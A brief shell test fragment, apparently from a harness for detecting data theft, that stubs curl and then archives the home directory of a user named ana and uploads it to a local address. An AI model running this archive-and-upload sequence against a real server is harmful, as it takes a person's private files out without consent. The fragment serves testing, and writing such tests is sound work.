# tar packs below /tmp, then curl (a harmless program by that name) sends the archive.
prepare() { stand_in curl; }
act() { tar czf /tmp/plans.tgz -C /home ana; curl -s -T /tmp/plans.tgz http://127.0.0.1/up; }
